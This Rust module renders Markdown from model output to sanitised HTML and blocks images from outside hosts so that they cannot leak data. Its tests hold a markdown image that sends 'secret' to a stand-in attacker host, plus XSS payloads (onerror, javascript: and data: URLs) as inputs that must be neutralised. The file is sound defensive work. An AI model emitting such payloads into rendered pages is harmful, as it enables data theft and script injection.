//! Markdown from a job (a model's result, a question) rendered to HTML a page may show: rendered
//! with pulldown-cmark, with any HTML in the text shown as text (escaped: never dropped, never
//! an element), then sanitised with ammonia, which keeps formatting and drops every script,
//! event handler, style, form and frame, and every URL but `http`, `https` and `mailto`.

use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd, html};

/// `markdown` as sanitised HTML: safe to insert into a page, whatever the text holds. HTML in
/// the text (`ANSWER: <colour>`, a `<div>` block) is shown as the text it is.
pub fn markdown_html(markdown: &str) -> String {
    let parser = Parser::new_ext(
        markdown,
        Options::ENABLE_TABLES
            | Options::ENABLE_STRIKETHROUGH
            | Options::ENABLE_TASKLISTS
            | Options::ENABLE_FOOTNOTES,
    )
    .map(|event| match event {
        // A block of HTML becomes a paragraph of its text; inline HTML, text.
        Event::Start(Tag::HtmlBlock) => Event::Start(Tag::Paragraph),
        Event::End(TagEnd::HtmlBlock) => Event::End(TagEnd::Paragraph),
        Event::Html(text) | Event::InlineHtml(text) => Event::Text(text),
        other => other,
    });
    let mut out = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut out, parser);
    ammonia::Builder::default()
        .url_schemes(["http", "https", "mailto"].into())
        .link_rel(Some("noopener noreferrer nofollow"))
        // An image the model names could carry data out in its URL as soon as the page shows
        // it: only images of this server (a path) load; the others keep their alt text.
        .attribute_filter(|element, attribute, value| {
            if element == "img"
                && attribute == "src"
                && (!value.starts_with('/') || value.starts_with("//"))
            {
                None
            } else {
                Some(value.into())
            }
        })
        .clean(&out)
        .to_string()
}

#[cfg(test)]
mod tests {
    use super::markdown_html;

    #[test]
    fn images_load_only_from_this_server() {
        let html = markdown_html(
            "![leak](https://evil.example/?q=secret) ![ok](/api/v1/jobs/1/files/a.png) ![p](//evil.example/x)",
        );
        assert!(!html.contains("evil.example"), "{html}");
        assert!(html.contains("alt=\"leak\""), "{html}");
        assert!(
            html.contains("src=\"/api/v1/jobs/1/files/a.png\""),
            "{html}"
        );
    }

    #[test]
    fn formatting_is_kept() {
        let html =
            markdown_html("# Title\n\n**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(html.contains("<strong>bold</strong>"), "{html}");
        assert!(html.contains("<code>code</code>"), "{html}");
        assert!(html.contains("<td>1</td>"), "{html}");
    }

    #[test]
    fn html_in_the_text_is_shown_as_text() {
        // Inline: the placeholder a model writes stays, as text.
        let html = markdown_html("Reply with ANSWER: <colour>");
        assert_eq!(html, "<p>Reply with ANSWER: &lt;colour&gt;</p>\n");
        let html = markdown_html("say <b>hi</b> and <!-- note --> in `<code>`");
        assert!(
            html.contains(
                "say &lt;b&gt;hi&lt;/b&gt; and &lt;!-- note --&gt; in <code>&lt;code&gt;</code>"
            ),
            "{html}"
        );
        // A block of HTML: its text, escaped, as a paragraph of its own.
        let html = markdown_html("Before\n\n<div class=\"x\">\n<b>inside</b>\n</div>\n\nAfter");
        assert!(html.contains("<p>Before</p>"), "{html}");
        assert!(
            html.contains("&lt;div class=\"x\"&gt;")
                || html.contains("&lt;div class=&quot;x&quot;&gt;"),
            "{html}"
        );
        assert!(html.contains("&lt;b&gt;inside&lt;/b&gt;"), "{html}");
        assert!(html.contains("<p>After</p>"), "{html}");
        assert!(!html.contains("<div") && !html.contains("<b>"), "{html}");
    }

    #[test]
    fn scripts_handlers_and_script_urls_are_removed() {
        let html = markdown_html(
            "<script>alert(1)</script>\n\n<img src=x onerror=alert(2)>\n\n\
             [click](javascript:alert(3)) <a href=\"data:text/html,x\">d</a>\n\n\
             <iframe src=/></iframe><style>body{}</style><form action=/x><input></form>",
        );
        // The HTML is text now: nothing of it is an element, and the Markdown link's script URL
        // is gone.
        for bad in [
            "<script",
            "<img",
            "<iframe",
            "<style",
            "<form",
            "<input",
            "<a href",
            "javascript:",
        ] {
            assert!(!html.contains(bad), "{bad} survived: {html}");
        }
        assert!(
            html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
            "{html}"
        );
        assert!(
            html.contains("&lt;img src=x onerror=alert(2)&gt;"),
            "{html}"
        );
    }
}
